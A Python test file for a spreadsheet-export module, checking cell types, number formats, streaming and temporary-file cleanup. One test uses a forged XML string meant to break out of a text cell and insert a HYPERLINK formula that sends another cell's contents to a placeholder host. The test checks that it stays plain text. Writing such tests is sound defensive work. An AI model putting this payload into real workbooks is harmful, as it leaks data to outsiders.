"""Cells are what they were: text stays text, instants are Seoul's, numbers can be summed."""

from __future__ import annotations

import datetime as dt
import io
import tempfile
import weakref
from collections.abc import Iterator
from decimal import Decimal

import openpyxl
import pytest

from ground.workbooks import LONGEST_TEXT, workbook


def test_each_value_has_its_type_and_nothing_runs():
    instant = dt.datetime(2025, 5, 30, 16, 30, 5, tzinfo=dt.UTC)
    long = "가" * (LONGEST_TEXT + 1)
    values = [
        "=1+1",
        "https://x.example",
        "0123",
        instant,
        dt.date(2025, 3, 1),
        Decimal("1.5"),
        7,
        True,
        None,
        "",
        long,
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(workbook(["@head", *"abcdefghij"], [values]))).active
    assert [[(cell.data_type, cell.value) for cell in row] for row in sheet.iter_rows(max_col=10)] == [
        [("s", "@head"), *(("s", letter) for letter in "abcdefghi")],
        [
            ("s", "=1+1"), ("s", "https://x.example"), ("s", "0123"), ("d", dt.datetime(2025, 5, 31, 1, 30, 5)),
            ("d", dt.datetime(2025, 3, 1)), ("n", 1.5), ("n", 7), ("b", True), ("n", None), ("n", None),
        ],
    ]  # fmt: skip
    assert sheet.cell(2, 11).value == "가" * (LONGEST_TEXT - 1) + "…"
    assert sheet.cell(2, 2).hyperlink is None


FORGED = (
    '<r><t>a</t></r></is></c><c r="C2"><f>HYPERLINK("http://x.example/?"&amp;A2,"open")</f><v>0</v></c>'
    '<c r="D2" t="inlineStr"><is><r><t>b</t></r>'
)


@pytest.mark.parametrize(
    "text", [FORGED, "<r>R&D</r>", "<r><t>b</t></r>", "<r>" + "가" * LONGEST_TEXT + "</r>"]
)
def test_a_text_that_looks_like_marked_up_text_is_a_text(text):
    """One who applies writes it into an answer; whoever opens the list of applicants has other companies' rows beside it."""
    sheet = openpyxl.load_workbook(
        io.BytesIO(workbook(["id", "name"], [["secret", text], ["x", "y"]]))
    ).active
    rows = [[(cell.data_type, cell.value) for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert rows[1] == [("s", "x"), ("s", "y")]
    assert [kind for kind, _value in rows[0]] == ["s", "s"]
    assert rows[0][1][1].rstrip() == (text if len(text) <= LONGEST_TEXT else text[: LONGEST_TEXT - 1] + "…")


def test_amounts_are_numbers_with_a_format_and_codes_stay_text():
    """Whole won without decimals however many zeros are kept behind them, cents with two, rates with as many as they have; row numbers
    and codes as they are."""
    values = [
        Decimal("1234567.0000"),
        Decimal("-1234.5"),
        Decimal("1391.37"),
        Decimal("0.14736842"),
        Decimal(0),
        2025,
        "0012",
    ]
    sheet = openpyxl.load_workbook(io.BytesIO(workbook(list("abcdefg"), [values]))).active
    assert [(cell.data_type, cell.value, cell.number_format) for cell in next(sheet.iter_rows(min_row=2))] == [
        ("n", 1234567, "#,##0"), ("n", -1234.5, "#,##0.00"), ("n", 1391.37, "#,##0.00"), ("n", 0.14736842, "#,##0.00000000"),
        ("n", 0, "#,##0"), ("n", 2025, "General"), ("s", "0012", "General"),
    ]  # fmt: skip


class Row(list[str]):
    """A row of which one can know whether somebody still holds it."""


def test_rows_are_written_as_they_come_and_not_held():
    held: list[weakref.ref[Row]] = []
    most = 0

    def rows() -> Iterator[Row]:
        nonlocal most
        for number in range(200):
            row = Row([str(number), "가" * 50])
            held.append(weakref.ref(row))
            most = max(most, sum(each() is not None for each in held))
            yield row

    book = openpyxl.load_workbook(io.BytesIO(workbook(["n", "text"], rows(), (["m"], rows()))))
    assert [sheet.max_row for sheet in book.worksheets] == [201, 201]
    assert [each.value for each in book.worksheets[1]["A"]][-1] == "199"
    assert most <= 3, most


def test_nothing_of_a_list_stays_behind_also_when_it_fails(monkeypatch, tmp_path):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows() -> Iterator[list[str]]:
        yield ["가"]
        assert list(tmp_path.iterdir()), "the row lies in a file"
        raise RuntimeError("made up")

    with pytest.raises(RuntimeError, match="made up"):
        workbook(["head"], rows())
    assert list(tmp_path.iterdir()) == []
    assert workbook(["head"], [["가"]])
    assert list(tmp_path.iterdir()) == []
